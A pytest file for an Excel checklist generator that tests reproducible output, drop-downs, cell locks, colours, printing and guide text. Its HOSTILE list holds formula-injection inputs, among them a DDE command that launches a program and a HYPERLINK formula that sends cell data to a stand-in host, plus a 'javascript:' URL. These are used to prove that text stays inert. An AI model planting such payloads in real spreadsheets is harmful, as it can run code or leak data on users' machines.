"""The workbook a supervisor opens: text that stays text, drop-downs, colours, locks, print, and the same bytes every time."""

import re
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from openpyxl.utils import range_boundaries
from openpyxl.workbook import Workbook

from generator.handbook import Handbook
from generator.models.standard import Standard
from generator.problems import HandbookError
from generator.sheets.answers import most_of
from generator.sheets.layout import ANSWER, Layout, sheet_name
from generator.sheets.load import load
from generator.sheets.questions import Question, paper
from generator.sheets.style import colour
from generator.sheets.write import workbook
from generator.texts import label
from tests.sheets.papers import EDITION, drawn, inspect, recalculated, section

PARTS = (
    section(inspect(points=2, na=True), inspect(points=3, critical=True), weight=60, minimum=80),
    section(inspect("grade", 5), inspect("grade", 5, na=True), inspect("deduct", 6, deduct=2), inspect(points=1), weight=40),
)
FUNCTIONS_OF_2007 = {
    *("AND", "COUNT", "COUNTIF", "IF", "INT", "ISNUMBER", "LEN", "LOOKUP", "MAX", "MIN", "NOT", "ROUND"),
    *("SUBSTITUTE", "SUM", "SUMIF", "SUMPRODUCT", "TEXT", "TRIM"),
}
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://e/?"&A1)',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1",
    "@SUM(1)",
    "＝1",
    "=您好",
    "#N/A",
    "'引号",
    "_x0041_",
    "1.10",
    "0571",
    "2026-03-15",
    "<b>&amp;</b>",
    "😀",
)


def opened(*parts: dict, url: str = "", **more: object) -> tuple[Workbook, Layout]:
    handbook, checklist = drawn(*(parts or PARTS), **more)
    return load_workbook(BytesIO(workbook(handbook, checklist, EDITION, url))), Layout(paper(handbook, checklist))


def worded(*texts: str) -> tuple[Handbook, Layout, bytes]:
    """A workbook whose clauses say these texts."""
    handbook, checklist = drawn(section(*[inspect() for _ in texts]))
    standard = handbook.get("desk", Standard)
    clauses = tuple(c.model_copy(update={"text": text}) for c, text in zip(standard.clauses, texts, strict=True))
    entries = {**handbook.entries, "desk": standard.model_copy(update={"clauses": clauses})}
    told = Handbook(entries)
    return told, Layout(paper(told, checklist)), workbook(told, checklist, EDITION)


def test_the_same_handbook_gives_the_same_bytes() -> None:
    one, other = (workbook(*drawn(*PARTS), EDITION) for _ in range(2))

    assert one == other
    with ZipFile(BytesIO(one)) as archive:
        names = archive.namelist()
        assert names == sorted(names)
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"dcterms" not in archive.read("docProps/core.xml")


def test_sheets_stand_in_the_order_of_their_use_and_open_at_the_first_cell_to_fill_in() -> None:
    book, layout = opened()

    assert [(sheet.title, sheet.sheet_state) for sheet in book] == [
        ("填写说明", "visible"),
        ("检查表", "visible"),
        ("结果", "visible"),
        ("_数据", "veryHidden"),
    ]
    assert book.active.title == "检查表"
    assert book.active.sheet_view.selection[0].activeCell == layout.at("text", layout.meta_row)
    assert book.active.freeze_panes == f"A{layout.first_row}"


def test_every_text_stays_text() -> None:
    _, layout, content = worded(*HOSTILE)
    sheet = load_workbook(BytesIO(content))[sheet_name("list")]

    cells = [sheet[layout.at("text", row.number)] for row in layout.rows if row.question]

    shown = [text.replace("_x0041_", "_x005F_x0041_") for text in HOSTILE]
    assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s") for text in shown]
    assert [cell.quotePrefix for cell in cells] == [text[0] in "=+-@'" for text in HOSTILE]
    assert items(content, layout) == [("text", text) for text in HOSTILE]


def items(content: bytes, layout: Layout) -> list[tuple[str, str]]:
    """Kind and value of what the items say, as they are read back."""
    cells = next(page.cells for page in load(content).pages if page.name == sheet_name("list"))
    raws = [cells[row.number, layout.columns["text"]] for row in layout.rows if row.question]
    return [(raw.kind, raw.value) for raw in raws]


@pytest.mark.office
def test_text_is_still_text_after_libreoffice_has_saved_it(tmp_path: Path) -> None:
    _, layout, content = worded(*HOSTILE)

    saved = recalculated({"a.xlsx": content}, tmp_path)["a.xlsx"]

    assert items(saved, layout) == [("text", text) for text in HOSTILE]


def test_a_text_no_cell_can_hold_is_a_problem_and_never_cut() -> None:
    long = inspect("grade", 20)
    long["levels"] = ["长" * 1900] * 21

    with pytest.raises(HandbookError) as caught:
        workbook(*drawn(section(long)), EDITION)

    [problem] = caught.value.problems
    assert (problem.code, problem.params["limit"]) == ("cell-too-long", 32_767)
    assert str(problem.place) == "checklists/round.xlsx[检查表!E7]"


def formulas(book: Workbook) -> dict[tuple[str, str], str]:
    return {(s.title, c.coordinate): c.value for s in book for row in s.iter_rows() for c in row if c.data_type == "f"}


def test_formulas_use_the_functions_of_2007_alone() -> None:
    five = {"assessors": 5, "drop-extremes": True}
    used = set()
    for book, _ in (opened(), opened(**five)):
        for formula in formulas(book).values():
            used |= set(re.findall(r"([A-Z][A-Z0-9.]*)\(", re.sub(r'"[^"]*"', "", formula)))

    assert used == FUNCTIONS_OF_2007


def test_every_formula_has_a_stored_value_for_programs_that_do_not_calculate() -> None:
    content = workbook(*drawn(*PARTS), EDITION)
    book = load_workbook(BytesIO(content), data_only=True)
    layout = opened()[1]

    with ZipFile(BytesIO(content)) as archive:
        parts = [archive.read(name).decode() for name in archive.namelist() if "worksheets/" in name]
    assert (
        sum(part.count("<f>") for part in parts) == sum(len(re.findall(r"</f><v>[^<]*</v></c>", part)) for part in parts) > 50
    )
    assert book[sheet_name("list")][layout.at("remark", layout.total_row)].value == "未完成"


def test_each_answer_has_the_drop_down_of_its_mode() -> None:
    book, layout = opened(assessors=2)
    sheet = book[sheet_name("list")]

    for row in layout.rows:
        for key in layout.keys(ANSWER) if row.question else ():
            cell = layout.at(key, row.number)
            [validation] = [v for v in sheet.data_validations.dataValidation if cell in v.sqref]
            assert (validation.type, validation.showErrorMessage, validation.errorStyle) == ("list", True, "stop")
            assert choices(book, validation.formula1) == expected_choices(row.question)
            assert len(validation.prompt) <= 255


def choices(book: Workbook, name: str) -> list[object]:
    [(title, area)] = book.defined_names[name].destinations
    return [cell.value for [cell] in book[title][area]]


def expected_choices(question: Question) -> list[object]:
    words = {"pass": ["合格", "不合格"]}.get(question.inspect.mode) or [*range(most_of(question.inspect) + 1)]
    return [*words, *(["不适用"] if question.inspect.na else [])]


def test_only_what_is_to_be_filled_in_is_open() -> None:
    book, layout = opened(assessors=2)
    sheet = book[sheet_name("list")]

    items = [row.number for row in layout.rows if row.question]
    open_cells = {layout.at(key, row) for key in (*layout.keys(ANSWER), "remark") for row in items}
    open_cells |= {layout.at(key, row) for key in ("text", "how") for row in (2, 3)}
    open_cells |= {layout.at(key, 4) for key in layout.keys(ANSWER)}
    assert {cell.coordinate for row in sheet.iter_rows() for cell in row if not cell.protection.locked} == open_cells
    assert all(own.protection.sheet and own.protection.password is None for own in book)
    assert not [
        c for own in (book["结果"], book["填写说明"]) for row in own.iter_rows() for c in row if not c.protection.locked
    ]


def test_each_colour_follows_the_row_it_stands_in() -> None:
    book, layout = opened(assessors=2)
    formatting = book[sheet_name("list")].conditional_formatting

    seen, fills = set(), set()
    for area in formatting:
        column, first, _, last = range_boundaries(str(area.sqref))
        for rule in area.rules:
            assert {int(row) for row in re.findall(r"\$[A-Z]+(\d+)", rule.formula[0])} == {first}, area.sqref
            fills.add((rule.dxf.fill.fill_type, rule.dxf.fill.bgColor.rgb))
        seen |= {(column, row) for row in range(first, last + 1)}
    items = [row.number for row in layout.rows if row.question]
    assert seen == {(layout.columns[key], row) for key in (*layout.keys(ANSWER), "remark") for row in items}
    assert fills == {("solid", colour(name)) for name in ("pass", "warn", "fail", "soft")}


def test_it_prints_on_a4_with_heads_and_page_numbers() -> None:
    book, layout = opened(title="收银 & 退货 &P 巡检表")
    sheet, page = book[sheet_name("list")], book[sheet_name("list")].page_setup

    assert (page.paperSize, page.orientation, page.fitToWidth, page.fitToHeight) == (9, "landscape", 1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == f"${layout.head_row}:${layout.head_row}"
    assert sheet.print_area == f"'检查表'!$B$1:$I${layout.total_row}"
    assert sheet.oddFooter.right.text == "第 &P 页 共 &N 页"


def test_a_title_is_no_command_of_the_page_head() -> None:
    content = workbook(*drawn(*PARTS, title="收银 & 退货 &P 巡检表"), EDITION)

    with ZipFile(BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
    assert "<oddHeader>&amp;L收银 &amp;&amp; 退货 &amp;&amp;P 巡检表</oddHeader>" in sheet


def test_rows_are_high_enough_for_their_text_and_helpers_stay_hidden() -> None:
    _, layout, content = worded("短", "一句很长的话，" * 20)
    sheet = load_workbook(BytesIO(content))[sheet_name("list")]

    short, long = (sheet.row_dimensions[row.number].height for row in layout.rows if row.question)
    assert short < 30
    # 280 half-width characters in a column of 36 take nine lines of ten points
    assert 9 * 10 * 1.3 < long < 9 * 10 * 2
    shown = [key for key, number in layout.columns.items() if not sheet.column_dimensions[chr(64 + number)].hidden]
    assert shown == ["no", "text", "level", "how", "points", "answer-1", "score", "remark"]
    assert sheet.row_dimensions[layout.keys_row].hidden


def test_the_guide_says_what_holds_for_this_checklist() -> None:
    weighted, _ = opened(url="https://example.org/checklists/round/")
    plain, _ = opened(section(inspect()), assessors=5, **{"drop-extremes": True})

    def told(book: Workbook) -> str:
        return "\n".join(str(c.value) for row in book["填写说明"].iter_rows() for c in row if c.value)

    words = ("按权重", "一票否决", "最低要求", "去掉一个最高分")
    assert [word in told(weighted) for word in words] == [True, True, True, False]
    assert [word in told(plain) for word in words] == [False, False, False, True]
    assert "优秀：90% 及以上。优秀之后" in told(weighted)
    assert "不合格：低于 75%。不合格之后" in told(weighted)
    shares = [c.value for row in weighted["结果"].iter_rows() for c in row if re.search("%(?: 及以上)?$", str(c.value or ""))]
    assert shares[-3:] == ["90% 及以上", "75% 及以上", "低于 75%"]
    assert links(weighted) == ["https://example.org/checklists/round/"]
    assert links(plain) == []


def links(book: Workbook) -> list[str]:
    return [cell.hyperlink.target for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]


def test_an_address_that_is_no_web_address_is_no_link() -> None:
    book, _ = opened(url="javascript:alert(1)")

    assert links(book) == []
    assert label("sheet.guide.page") not in [row[0].value for row in book["填写说明"].iter_rows()]


def test_what_a_store_does_not_offer_is_not_asked_there() -> None:
    handbook, checklist = drawn(*PARTS)
    hidden = Handbook(handbook.entries, hidden=frozenset({"desk"}))

    assert paper(hidden, checklist).parts == ()
    assert workbook(hidden, checklist, EDITION)
